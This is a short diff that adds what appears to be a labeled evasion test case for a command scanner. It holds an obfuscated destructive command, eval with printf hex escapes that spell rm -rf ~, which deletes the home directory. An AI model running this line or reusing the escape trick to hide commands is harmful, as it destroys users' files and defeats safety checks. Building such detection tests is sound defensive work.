@@ -1,0 +1,3 @@
+# evasion: rm named by printf %b escapes in eval
+# grade: hard; does: delete
+eval "$(printf '%b' '\x72\x6d') -rf ~"
